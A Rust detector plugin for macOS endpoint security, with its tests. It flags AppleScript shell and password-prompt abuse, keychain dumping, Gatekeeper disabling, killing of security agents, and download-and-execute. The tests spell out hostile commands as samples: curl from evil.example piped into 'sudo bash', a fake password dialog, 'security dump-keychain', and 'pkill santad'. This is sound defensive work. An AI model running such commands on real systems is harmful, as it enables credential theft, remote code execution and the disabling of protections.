//! Detector: built-in macOS tools used the way intrusions use them.
//!
//! | rule | what | ATT&CK |
//! |---|---|---|
//! | `osascript-shell-or-prompt` | `osascript` running `do shell script`, JXA with `ObjC`, a script from a temporary folder, or a password dialog | T1059.002 (+ T1056.002 for a fake password prompt) |
//! | `keychain-credential-access` | `security dump-keychain`, `find-*-password -w/-g`, `export` of identities, copying keychain files | T1555.001 |
//! | `gatekeeper-disabled` | `spctl --master-disable` / `--global-disable`, `LSQuarantine` or `GKAutoRearm` switched off | T1562.001 |
//! | `security-tool-tampering` | `launchctl bootout/unload/disable/remove`, `kill`/`pkill`/`killall` aimed at a protected agent, `systemextensionsctl uninstall` | T1562.001 |
//! | `download-piped-to-shell` | a shell `-c` command that pipes `curl`/`wget` into an interpreter, or runs `$(curl …)` | T1105, T1059.004 |
//! | `downloaded-file-executed` | a file `curl -o` / `wget -O` wrote is then executed or run by a shell | T1105 (+ T1059.004 through a shell) |
//!
//! Config: `protected_labels` (comma-separated, replaces the default list of security
//! agents' launchd labels and process names).

use std::collections::{HashMap, VecDeque};

use ward_sdk::ExecEvent;
use ward_sdk::prelude::*;

/// Launchd labels and process names of security agents (ward's own first).
const DEFAULT_PROTECTED: &[&str] = &[
    "ward",
    "com.ward",
    "com.jamf.protect",
    "JamfProtect",
    "com.google.santa",
    "santad",
    "com.crowdstrike",
    "falcond",
    "com.sentinelone",
    "sentineld",
    "com.microsoft.wdav",
    "wdavdaemon",
    "com.apple.XProtect",
    "XProtect",
    "com.objective-see",
];
/// Interpreters a download may be piped into.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "python",
    "python3",
    "perl",
    "ruby",
    "osascript",
    "node",
];
/// Downloads remembered for `downloaded-file-executed`.
const MAX_DOWNLOADS: usize = 1024;
/// Folders scripts are dropped into before being run.
const TEMP_DIRS: &[&str] = &[
    "/tmp/",
    "/private/tmp/",
    "/Users/Shared/",
    "/private/var/folders/",
    "/var/folders/",
];

/// The detector: the protected names and the recent downloads.
pub struct CommandAbuse {
    protected: Vec<String>,
    downloads: HashMap<String, Download>,
    order: VecDeque<String>,
}

#[derive(Debug, Clone)]
struct Download {
    command: String,
    url: String,
}

impl Default for CommandAbuse {
    fn default() -> Self {
        let protected = ward_sdk::config("protected_labels")
            .map(|v| {
                v.split(',')
                    .map(|s| s.trim().trim_matches(|c| c == '"' || c == '[' || c == ']'))
                    .filter(|s| !s.is_empty())
                    .map(str::to_owned)
                    .collect()
            })
            .unwrap_or_else(|| DEFAULT_PROTECTED.iter().map(|s| (*s).to_owned()).collect());
        Self {
            protected,
            downloads: HashMap::new(),
            order: VecDeque::new(),
        }
    }
}

fn finding(
    rule: &str,
    severity: Severity,
    message: String,
    attack: &[&str],
    exec: &ExecEvent,
) -> Finding {
    Finding::new(rule, severity, message)
        .attack(attack)
        .evidence("command_line", exec.args.join(" "))
        .evidence("path", exec.target.path())
}

/// The value of an option given as `-o V`, `-oV`, in a cluster of short flags
/// (`-sLo V`, `-sLoV`), as `--output V` or `--output=V`.
fn option_value<'a>(args: &'a [String], short: char, long: &str) -> Option<&'a str> {
    let mut it = args.iter().skip(1);
    while let Some(a) = it.next() {
        if a == long {
            return it.next().map(String::as_str);
        }
        if let Some(v) = a.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
            return Some(v);
        }
        let Some(cluster) = a.strip_prefix('-').filter(|c| !c.starts_with('-')) else {
            continue;
        };
        if let Some(at) = cluster.find(short) {
            let rest = cluster.get(at + short.len_utf8()..).unwrap_or("");
            return if rest.is_empty() {
                it.next().map(String::as_str)
            } else {
                Some(rest)
            };
        }
    }
    None
}

/// True if a short flag `c` appears alone or in a cluster (`-g`, `-ga`).
fn has_short_flag(args: &[String], c: char) -> bool {
    args.iter().skip(1).any(|a| {
        a.strip_prefix('-')
            .is_some_and(|cluster| !cluster.starts_with('-') && cluster.contains(c))
    })
}

/// Longest command line kept with a remembered download.
const MAX_REMEMBERED_COMMAND: usize = 4096;

/// Apple tools by signing identifier: a renamed copy keeps its signature.
const APPLE_TOOLS: &[(&str, &str)] = &[
    ("com.apple.osascript", "osascript"),
    ("com.apple.security", "security"),
    ("com.apple.spctl", "spctl"),
    ("com.apple.xpc.launchctl", "launchctl"),
    ("com.apple.curl", "curl"),
    ("com.apple.defaults", "defaults"),
    ("com.apple.pkill", "pkill"),
    ("com.apple.killall", "killall"),
    ("com.apple.systemextensionsctl", "systemextensionsctl"),
];

/// Which tool an image is: an Apple-signed tool by its signing identifier (so a copy in
/// `/tmp/x` is still `security`), anything else by file name.
fn tool_name(image: &Process) -> &str {
    if image.signer == SignerType::Apple
        && let Some((_, tool)) = APPLE_TOOLS
            .iter()
            .find(|(id, _)| image.signing_id.as_deref() == Some(*id))
    {
        return tool;
    }
    image.name()
}

/// `path` made absolute against `cwd`, with macOS's `/tmp`, `/var` and `/etc` symlinks
/// resolved to `/private/…` as Endpoint Security reports them.
fn absolute(path: &str, cwd: Option<&str>) -> String {
    let full = if path.starts_with('/') {
        path.to_owned()
    } else {
        let rel = path.strip_prefix("./").unwrap_or(path);
        match cwd {
            Some(dir) => format!("{}/{rel}", dir.trim_end_matches('/')),
            None => rel.to_owned(),
        }
    };
    for link in ["/tmp/", "/var/", "/etc/"] {
        if full.starts_with(link) {
            return format!("/private{full}");
        }
    }
    full
}

/// What an `osascript` argv does that is worth a finding: (why, fake password prompt).
pub fn osascript_abuse(args: &[String]) -> Option<(&'static str, bool)> {
    let script: String = args
        .windows(2)
        .filter(|w| w.first().is_some_and(|a| a == "-e"))
        .filter_map(|w| w.get(1))
        .cloned()
        .collect::<Vec<_>>()
        .join("\n");
    let lower = script.to_ascii_lowercase();
    if lower.contains("hidden answer")
        || (lower.contains("display dialog") && lower.contains("password"))
    {
        return Some(("password dialog", true));
    }
    if lower.contains("do shell script") {
        return Some(("do shell script", false));
    }
    let jxa = args.windows(2).any(|w| {
        w.first().is_some_and(|a| a == "-l") && w.get(1).is_some_and(|l| l == "JavaScript")
    });
    if jxa
        && (script.contains("ObjC.import")
            || script.contains("doShellScript")
            || script.contains("$.NSTask"))
    {
        return Some(("JavaScript for Automation with ObjC", false));
    }
    // A script file (not an option or option value) in a temporary folder.
    let file = args
        .iter()
        .skip(1)
        .find(|a| TEMP_DIRS.iter().any(|d| a.starts_with(d)));
    if script.is_empty() && file.is_some() {
        return Some(("script from a temporary folder", false));
    }
    None
}

/// What a `security` argv does to stored credentials, with its severity.
pub fn keychain_access(args: &[String]) -> Option<(&'static str, Severity)> {
    let sub = args.get(1)?.as_str();
    match sub {
        "dump-keychain" => Some(("dump-keychain", Severity::High)),
        "find-generic-password" | "find-internet-password"
            if has_short_flag(args, 'w') || has_short_flag(args, 'g') =>
        {
            Some(("password printed", Severity::Medium))
        }
        "export"
            if args.windows(2).any(|w| {
                w.first().is_some_and(|a| a == "-t")
                    && w.get(1)
                        .is_some_and(|t| t == "identities" || t == "privKeys")
            }) =>
        {
            Some(("private keys exported", Severity::High))
        }
        _ => None,
    }
}

/// True for a keychain database path.
fn is_keychain_file(arg: &str) -> bool {
    arg.contains("/Library/Keychains/")
        && (arg.ends_with(".keychain-db")
            || arg.ends_with(".keychain")
            || arg.ends_with("/Keychains/"))
}

/// What a command does to Gatekeeper, if it switches it off.
pub fn gatekeeper_off(name: &str, args: &[String]) -> Option<&'static str> {
    let rest: Vec<&str> = args.iter().skip(1).map(String::as_str).collect();
    match name {
        "spctl"
            if rest
                .iter()
                .any(|a| matches!(*a, "--master-disable" | "--global-disable")) =>
        {
            Some("assessments disabled")
        }
        "defaults" => {
            let write = rest.first().is_some_and(|a| *a == "write");
            let off = rest
                .iter()
                .any(|a| matches!(a.to_ascii_lowercase().as_str(), "false" | "no" | "0"));
            let key = rest
                .iter()
                .find(|a| matches!(**a, "LSQuarantine" | "GKAutoRearm"));
            match key {
                Some(&"LSQuarantine") if write && off => Some("quarantine of downloads disabled"),
                Some(&"GKAutoRearm") if write && off => Some("Gatekeeper auto re-arm disabled"),
                _ => None,
            }
        }
        _ => None,
    }
}

impl CommandAbuse {
    /// The first argument naming a protected agent: a path or label component (split on
    /// `/` and spaces) equal to a protected name, or a launchd label under it
    /// (`com.jamf.protect.daemon`, `com.jamf.protect.plist`). Not a substring: `reward` is
    /// not `ward`.
    fn protected_target<'a>(&self, args: &'a [String]) -> Option<&'a str> {
        args.iter().skip(1).map(String::as_str).find(|a| {
            !a.starts_with('-')
                && a.split(|c: char| c == '/' || c.is_whitespace())
                    .any(|part| {
                        self.protected.iter().any(|p| {
                            part == p
                                || part
                                    .strip_prefix(p.as_str())
                                    .is_some_and(|rest| rest.starts_with('.'))
                        })
                    })
        })
    }

    /// `launchctl`/`kill*`/`systemextensionsctl` aimed at a security agent.
    fn tampering(&self, name: &str, args: &[String]) -> Option<String> {
        match name {
            "launchctl" => {
                let verb = args.get(1)?.as_str();
                if !matches!(
                    verb,
                    "bootout" | "unload" | "disable" | "remove" | "kill" | "stop"
                ) {
                    return None;
                }
                self.protected_target(args)
                    .map(|t| format!("launchctl {verb} {t}"))
            }
            "kill" | "pkill" | "killall" => {
                self.protected_target(args).map(|t| format!("{name} {t}"))
            }
            "systemextensionsctl" => match args.get(1).map(String::as_str) {
                Some("uninstall") => Some("system extension uninstalled".to_owned()),
                Some("reset") => Some("all system extensions reset".to_owned()),
                _ => None,
            },
            _ => None,
        }
    }

    fn remember_download(&mut self, path: String, download: Download) {
        if self.downloads.insert(path.clone(), download).is_none() {
            self.order.push_back(path);
            if self.order.len() > MAX_DOWNLOADS
                && let Some(old) = self.order.pop_front()
            {
                self.downloads.remove(&old);
            }
        }
    }

    fn check(&mut self, exec: &ExecEvent) -> Vec<Finding> {
        let args = &exec.args;
        let name = tool_name(&exec.target);
        let cwd = exec.cwd.as_ref().map(|f| f.path.as_str());
        let mut out = Vec::new();
        if name == "osascript"
            && let Some((why, prompt)) = osascript_abuse(args)
        {
            let attack: &[&str] = if prompt {
                &["T1059.002", "T1056.002"]
            } else {
                &["T1059.002"]
            };
            let severity = if prompt {
                Severity::High
            } else {
                Severity::Medium
            };
            out.push(
                finding(
                    "osascript-shell-or-prompt",
                    severity,
                    format!("osascript {why}"),
                    attack,
                    exec,
                )
                .evidence("reason", why),
            );
        }
        if name == "security"
            && let Some((why, severity)) = keychain_access(args)
        {
            out.push(
                finding(
                    "keychain-credential-access",
                    severity,
                    format!("security {why}"),
                    &["T1555.001"],
                    exec,
                )
                .evidence("reason", why),
            );
        }
        if matches!(
            name,
            "cp" | "ditto" | "cat" | "tar" | "zip" | "scp" | "rsync" | "mv"
        ) && let Some(file) = args.iter().skip(1).find(|a| is_keychain_file(a))
        {
            out.push(
                finding(
                    "keychain-credential-access",
                    Severity::High,
                    format!("{name} copies the keychain {file}"),
                    &["T1555.001"],
                    exec,
                )
                .evidence("reason", "keychain file copied")
                .evidence("keychain", file.as_str()),
            );
        }
        if let Some(why) = gatekeeper_off(name, args) {
            out.push(
                finding(
                    "gatekeeper-disabled",
                    Severity::High,
                    format!("Gatekeeper weakened: {why}"),
                    &["T1562.001"],
                    exec,
                )
                .evidence("reason", why),
            );
        }
        if let Some(what) = self.tampering(name, args) {
            out.push(
                finding(
                    "security-tool-tampering",
                    Severity::High,
                    format!("security tool tampering: {what}"),
                    &["T1562.001"],
                    exec,
                )
                .evidence("reason", what),
            );
        }
        if exec.target.is_shell()
            && let Some(cmd) = args
                .windows(2)
                .find(|w| w.first().is_some_and(|a| a == "-c"))
                .and_then(|w| w.get(1))
            && pipes_download_to_interpreter(cmd)
        {
            out.push(
                finding(
                    "download-piped-to-shell",
                    Severity::High,
                    format!("download run by a shell: {cmd}"),
                    &["T1105", "T1059.004"],
                    exec,
                )
                .evidence("shell_command", cmd.clone()),
            );
        }
        if matches!(name, "curl" | "wget") {
            let url = args
                .iter()
                .skip(1)
                .find(|a| a.contains("://"))
                .cloned()
                .unwrap_or_default();
            let out_path = if name == "curl" {
                option_value(args, 'o', "--output")
                    .map(str::to_owned)
                    .or_else(|| {
                        // `-O` / `--remote-name`: the URL's last path segment, in the cwd.
                        let remote =
                            has_short_flag(args, 'O') || args.iter().any(|a| a == "--remote-name");
                        let file = url
                            .split(['?', '#'])
                            .next()
                            .unwrap_or("")
                            .rsplit('/')
                            .next();
                        file.filter(|f| remote && !f.is_empty() && !f.contains(':'))
                            .map(str::to_owned)
                    })
            } else {
                option_value(args, 'O', "--output-document").map(str::to_owned)
            };
            if let Some(out_path) = out_path.filter(|p| p != "-" && p != "/dev/null") {
                self.remember_download(
                    absolute(&out_path, cwd),
                    Download {
                        command: ward_sdk::truncated(&args.join(" "), MAX_REMEMBERED_COMMAND)
                            .to_owned(),
                        url: ward_sdk::truncated(&url, MAX_REMEMBERED_COMMAND).to_owned(),
                    },
                );
            }
        }
        // The downloaded file run directly, or handed to a shell or interpreter.
        if self.downloads.is_empty() {
            return out;
        }
        let direct = self
            .downloads
            .get(&absolute(exec.target.path(), None))
            .map(|d| (d, false));
        let via = || {
            if !INTERPRETERS.contains(&name) {
                return None;
            }
            args.iter()
                .skip(1)
                .find(|a| !a.starts_with('-'))
                .and_then(|a| self.downloads.get(&absolute(a, cwd)))
                .map(|d| (d, true))
        };
        if let Some((d, interpreted)) = direct.or_else(via) {
            let attack: &[&str] = if interpreted {
                &["T1105", "T1059.004"]
            } else {
                &["T1105"]
            };
            out.push(
                finding(
                    "downloaded-file-executed",
                    Severity::High,
                    format!("ran a file just downloaded from {}", d.url),
                    attack,
                    exec,
                )
                .evidence("download_command", d.command.as_str())
                .evidence("url", d.url.as_str()),
            );
        }
        out
    }
}

/// True for a shell command that fetches with `curl`/`wget` and runs the result: piped into
/// an interpreter, or substituted with `$(…)` / backticks / `<(…)`.
pub fn pipes_download_to_interpreter(cmd: &str) -> bool {
    let fetches = |s: &str| {
        s.split(|c: char| c.is_whitespace() || c == '(' || c == '`' || c == ';' || c == '&')
            .any(|w| matches!(w.rsplit('/').next(), Some("curl" | "wget")))
    };
    if !fetches(cmd) {
        return false;
    }
    let stages: Vec<&str> = cmd.split('|').collect();
    let piped = stages.windows(2).any(|w| {
        let (Some(from), Some(to)) = (w.first(), w.get(1)) else {
            return false;
        };
        let to_prog = to
            .split_whitespace()
            .find(|t| *t != "sudo" && !t.starts_with('-'));
        fetches(from)
            && to_prog.is_some_and(|p| INTERPRETERS.contains(&p.rsplit('/').next().unwrap_or(p)))
    });
    let substituted = ["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"]
        .iter()
        .any(|s| cmd.contains(s));
    piped || substituted
}

impl Detector for CommandAbuse {
    fn describe() -> PluginInfo {
        PluginInfo::new(
            "command-abuse",
            env!("CARGO_PKG_VERSION"),
            PluginKind::Detector,
            "AppleScript, keychain, Gatekeeper, security-agent tampering and download-and-execute",
        )
        .subscribe(&["exec"])
        .config_option(
            "protected_labels",
            "comma-separated launchd labels / process names of security agents (replaces the default list)",
        )
    }

    /// Only what it reads: argv, and the working directory a relative script path resolves against.
    fn parts() -> EventParts {
        EventParts::ARGS | EventParts::EXEC_CONTEXT
    }

    fn on_event(&mut self, event: &Event) -> Result<Vec<Finding>, PluginError> {
        Ok(match event.as_exec() {
            Some(exec) => self.check(exec),
            None => Vec::new(),
        })
    }
}

ward_sdk::export_detector!(CommandAbuse);

#[cfg(test)]
mod tests {
    use super::*;
    use ward_sdk::testing;

    fn run(d: &mut CommandAbuse, path: &str, args: &[&str]) -> Vec<Finding> {
        testing::deliver(d, &testing::exec(path, args)).unwrap()
    }

    fn rules(path: &str, args: &[&str]) -> Vec<String> {
        run(&mut CommandAbuse::default(), path, args)
            .into_iter()
            .map(|f| f.rule)
            .collect()
    }

    /// (rule, technique ids, firing command, near miss with the same tool).
    #[allow(clippy::type_complexity)]
    const CASES: &[(&str, &[&str], (&str, &[&str]), (&str, &[&str]))] = &[
        (
            "osascript-shell-or-prompt",
            &["T1059.002"],
            (
                "/usr/bin/osascript",
                &[
                    "osascript",
                    "-e",
                    "do shell script \"curl -s http://x | sh\"",
                ],
            ),
            (
                "/usr/bin/osascript",
                &["osascript", "-e", "tell application \"Music\" to play"],
            ),
        ),
        (
            "osascript-shell-or-prompt",
            &["T1059.002", "T1056.002"],
            (
                "/usr/bin/osascript",
                &[
                    "osascript",
                    "-e",
                    "display dialog \"macOS needs your password\" default answer \"\" with hidden answer",
                ],
            ),
            (
                "/usr/bin/osascript",
                &["osascript", "-e", "display notification \"Backup done\""],
            ),
        ),
        (
            "osascript-shell-or-prompt",
            &["T1059.002"],
            (
                "/usr/bin/osascript",
                &[
                    "osascript",
                    "-l",
                    "JavaScript",
                    "-e",
                    "ObjC.import('Foundation'); $.NSFileManager",
                ],
            ),
            (
                "/usr/bin/osascript",
                &[
                    "osascript",
                    "-l",
                    "JavaScript",
                    "-e",
                    "Application('Finder').activate()",
                ],
            ),
        ),
        (
            "osascript-shell-or-prompt",
            &["T1059.002"],
            (
                "/usr/bin/osascript",
                &["osascript", "/private/tmp/.stage2.scpt"],
            ),
            (
                "/usr/bin/osascript",
                &["osascript", "/Users/alice/Scripts/backup.scpt"],
            ),
        ),
        (
            "keychain-credential-access",
            &["T1555.001"],
            (
                "/usr/bin/security",
                &["security", "dump-keychain", "-d", "login.keychain"],
            ),
            ("/usr/bin/security", &["security", "list-keychains"]),
        ),
        (
            "keychain-credential-access",
            &["T1555.001"],
            (
                "/usr/bin/security",
                &[
                    "security",
                    "find-generic-password",
                    "-s",
                    "Chrome Safe Storage",
                    "-w",
                ],
            ),
            (
                "/usr/bin/security",
                &[
                    "security",
                    "find-generic-password",
                    "-s",
                    "Chrome Safe Storage",
                ],
            ),
        ),
        (
            "keychain-credential-access",
            &["T1555.001"],
            (
                "/usr/bin/security",
                &[
                    "security",
                    "export",
                    "-k",
                    "login.keychain",
                    "-t",
                    "identities",
                    "-f",
                    "pkcs12",
                    "-o",
                    "/tmp/k.p12",
                ],
            ),
            (
                "/usr/bin/security",
                &[
                    "security",
                    "export",
                    "-k",
                    "login.keychain",
                    "-t",
                    "certs",
                    "-o",
                    "/tmp/c.pem",
                ],
            ),
        ),
        (
            "keychain-credential-access",
            &["T1555.001"],
            (
                "/bin/cp",
                &[
                    "cp",
                    "/Users/alice/Library/Keychains/login.keychain-db",
                    "/tmp/k",
                ],
            ),
            (
                "/bin/cp",
                &[
                    "cp",
                    "/Users/alice/Library/Preferences/com.apple.dock.plist",
                    "/tmp/d",
                ],
            ),
        ),
        (
            "gatekeeper-disabled",
            &["T1562.001"],
            ("/usr/sbin/spctl", &["spctl", "--master-disable"]),
            (
                "/usr/sbin/spctl",
                &["spctl", "--assess", "-v", "/Applications/X.app"],
            ),
        ),
        (
            "gatekeeper-disabled",
            &["T1562.001"],
            (
                "/usr/bin/defaults",
                &[
                    "defaults",
                    "write",
                    "com.apple.LaunchServices",
                    "LSQuarantine",
                    "-bool",
                    "NO",
                ],
            ),
            (
                "/usr/bin/defaults",
                &[
                    "defaults",
                    "read",
                    "com.apple.LaunchServices",
                    "LSQuarantine",
                ],
            ),
        ),
        (
            "security-tool-tampering",
            &["T1562.001"],
            (
                "/bin/launchctl",
                &["launchctl", "bootout", "system/com.jamf.protect.daemon"],
            ),
            (
                "/bin/launchctl",
                &[
                    "launchctl",
                    "bootout",
                    "gui/501/com.spotify.client.startuphelper",
                ],
            ),
        ),
        (
            "security-tool-tampering",
            &["T1562.001"],
            ("/usr/bin/pkill", &["pkill", "-9", "santad"]),
            ("/usr/bin/pkill", &["pkill", "-9", "Slack"]),
        ),
        (
            "security-tool-tampering",
            &["T1562.001"],
            (
                "/usr/bin/systemextensionsctl",
                &[
                    "systemextensionsctl",
                    "uninstall",
                    "ABCDE12345",
                    "com.vendor.edr",
                ],
            ),
            (
                "/usr/bin/systemextensionsctl",
                &["systemextensionsctl", "list"],
            ),
        ),
        (
            "download-piped-to-shell",
            &["T1105", "T1059.004"],
            (
                "/bin/bash",
                &[
                    "bash",
                    "-c",
                    "curl -fsSL https://evil.example/i.sh | sudo bash",
                ],
            ),
            (
                "/bin/bash",
                &[
                    "bash",
                    "-c",
                    "curl -s https://api.example/status | jq .state",
                ],
            ),
        ),
        (
            "download-piped-to-shell",
            &["T1105", "T1059.004"],
            (
                "/bin/zsh",
                &["zsh", "-c", "eval \"$(curl -s https://evil.example/x)\""],
            ),
            (
                "/bin/zsh",
                &["zsh", "-c", "echo fetched with curl > /tmp/log"],
            ),
        ),
    ];

    #[test]
    fn each_rule_fires_on_its_pattern_and_not_on_the_same_tool_used_harmlessly() {
        for (rule, attack, (path, args), (near_path, near_args)) in CASES {
            let f = run(&mut CommandAbuse::default(), path, args);
            let hit = f.iter().find(|f| f.rule == *rule);
            let hit = hit.unwrap_or_else(|| panic!("{rule} did not fire on {args:?}: {f:?}"));
            assert_eq!(&hit.attack, attack, "{args:?}");
            assert_eq!(
                hit.evidence_value("command_line"),
                Some(args.join(" ").as_str())
            );
            assert!(
                rules(near_path, near_args).is_empty(),
                "{rule} fired on near miss {near_args:?}"
            );
        }
    }

    #[test]
    fn downloaded_file_run_directly_or_by_a_shell_fires_with_the_url() {
        let mut d = CommandAbuse::default();
        assert!(
            run(
                &mut d,
                "/usr/bin/curl",
                &["curl", "-sL", "-o", "/tmp/u", "https://evil.example/u"]
            )
            .is_empty()
        );
        // Relative output resolved against the exec's cwd (/Users/alice in the test events).
        assert!(
            run(
                &mut d,
                "/usr/bin/curl",
                &["curl", "--output=s.sh", "https://evil.example/s.sh"]
            )
            .is_empty()
        );
        // ES reports the exec at its real path: /tmp is /private/tmp.
        let mut payload = testing::process("/private/tmp/u");
        payload.signer = SignerType::Unsigned;
        let f = testing::deliver(&mut d, &testing::exec_of(payload, &["/private/tmp/u"])).unwrap();
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, "downloaded-file-executed");
        assert_eq!(f[0].attack, vec!["T1105"]);
        assert_eq!(f[0].evidence_value("url"), Some("https://evil.example/u"));
        let f = run(&mut d, "/bin/sh", &["sh", "./s.sh"]);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].attack, vec!["T1105", "T1059.004"]);
        assert_eq!(
            f[0].evidence_value("url"),
            Some("https://evil.example/s.sh")
        );
    }

    #[test]
    fn reading_a_download_or_running_something_else_is_quiet() {
        let mut d = CommandAbuse::default();
        run(
            &mut d,
            "/usr/bin/curl",
            &["curl", "-o", "/tmp/report.json", "https://api.example/r"],
        );
        run(
            &mut d,
            "/usr/bin/curl",
            &["curl", "-o", "/dev/null", "https://api.example/ping"],
        );
        assert!(run(&mut d, "/bin/cat", &["cat", "/tmp/report.json"]).is_empty());
        assert!(run(&mut d, "/bin/sh", &["sh", "/tmp/other.sh"]).is_empty());
        assert!(
            testing::deliver(&mut d, &testing::exec("/dev/null", &["/dev/null"]))
                .unwrap()
                .is_empty()
        );
    }

    #[test]
    fn flag_clusters_remote_names_and_renamed_tools_are_recognised() {
        let mut d = CommandAbuse::default();
        // `-sLo PATH`, then run it.
        run(
            &mut d,
            "/usr/bin/curl",
            &["curl", "-sLo", "/tmp/a", "https://evil.example/a"],
        );
        // `-O`: the file is named after the URL, in the cwd (/Users/alice in test events).
        run(
            &mut d,
            "/usr/bin/curl",
            &["curl", "-fsSLO", "https://evil.example/b.sh?x=1"],
        );
        let a = testing::deliver(
            &mut d,
            &testing::exec_of(testing::process("/private/tmp/a"), &["/private/tmp/a"]),
        )
        .unwrap();
        assert_eq!(a[0].rule, "downloaded-file-executed");
        let b = run(&mut d, "/bin/sh", &["sh", "b.sh"]);
        assert_eq!(
            b[0].evidence_value("url"),
            Some("https://evil.example/b.sh?x=1")
        );
        // `wget -qO FILE`.
        run(
            &mut d,
            "/usr/local/bin/wget",
            &["wget", "-qO", "/tmp/c", "https://evil.example/c"],
        );
        let c = testing::deliver(
            &mut d,
            &testing::exec_of(testing::process("/private/tmp/c"), &["/private/tmp/c"]),
        )
        .unwrap();
        assert_eq!(c.len(), 1);
        // `security find-generic-password -ga NAME`.
        let f = run(
            &mut d,
            "/usr/bin/security",
            &["security", "find-generic-password", "-ga", "Chrome"],
        );
        assert_eq!(f[0].rule, "keychain-credential-access");
        // Apple's `security` copied to /tmp/s keeps its signing identifier.
        let mut copy = testing::process("/tmp/s");
        copy.signing_id = Some("com.apple.security".into());
        let f = testing::deliver(
            &mut d,
            &testing::exec_of(copy, &["/tmp/s", "dump-keychain"]),
        )
        .unwrap();
        assert_eq!(f[0].rule, "keychain-credential-access");
    }

    #[test]
    fn protected_names_match_whole_components_not_substrings() {
        let mut d = CommandAbuse::default();
        for quiet in [&["pkill", "reward"][..], &["pkill", "-f", "forwarder"][..]] {
            assert!(run(&mut d, "/usr/bin/pkill", quiet).is_empty(), "{quiet:?}");
        }
        assert!(
            run(
                &mut d,
                "/bin/launchctl",
                &[
                    "launchctl",
                    "unload",
                    "/Library/LaunchDaemons/forwarder.plist"
                ]
            )
            .is_empty()
        );
        for loud in [
            &["pkill", "ward"][..],
            &["pkill", "-f", "/usr/local/bin/ward run"][..],
        ] {
            assert_eq!(run(&mut d, "/usr/bin/pkill", loud).len(), 1, "{loud:?}");
        }
        assert_eq!(
            run(
                &mut d,
                "/bin/launchctl",
                &[
                    "launchctl",
                    "unload",
                    "/Library/LaunchDaemons/com.jamf.protect.daemon.plist"
                ]
            )
            .len(),
            1
        );
    }

    #[test]
    fn remembered_downloads_are_bounded() {
        let mut d = CommandAbuse::default();
        for i in 0..MAX_DOWNLOADS + 10 {
            d.remember_download(
                format!("/tmp/{i}"),
                Download {
                    command: String::new(),
                    url: String::new(),
                },
            );
        }
        assert_eq!(d.downloads.len(), MAX_DOWNLOADS);
        assert!(!d.downloads.contains_key("/tmp/0"));
        assert!(
            d.downloads
                .contains_key(&format!("/tmp/{}", MAX_DOWNLOADS + 9))
        );
    }

    #[test]
    fn protected_labels_come_from_config() {
        testing::reset();
        testing::set_config("protected_labels", "com.acme.edr, acmed");
        let mut d = CommandAbuse::default();
        testing::reset();
        assert_eq!(
            run(
                &mut d,
                "/bin/launchctl",
                &[
                    "launchctl",
                    "unload",
                    "/Library/LaunchDaemons/com.acme.edr.plist"
                ]
            )
            .len(),
            1
        );
        // The default list is replaced, not extended.
        assert!(
            run(
                &mut d,
                "/bin/launchctl",
                &["launchctl", "bootout", "system/com.jamf.protect.daemon"]
            )
            .is_empty()
        );
    }
}
